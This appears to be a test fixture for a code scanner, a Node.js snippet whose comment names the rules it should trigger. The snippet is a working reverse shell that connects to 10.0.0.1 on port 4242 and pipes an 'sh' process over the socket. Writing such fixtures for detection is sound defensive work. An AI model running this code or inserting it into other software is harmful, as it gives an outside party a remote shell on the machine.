// expect: node-child-process node-spawn-shell
import { spawn } from 'child_process';
import net from 'net';
const client = new net.Socket();
client.connect(4242, '10.0.0.1', () => {
  const sh = spawn("sh", []);
  client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client);
});
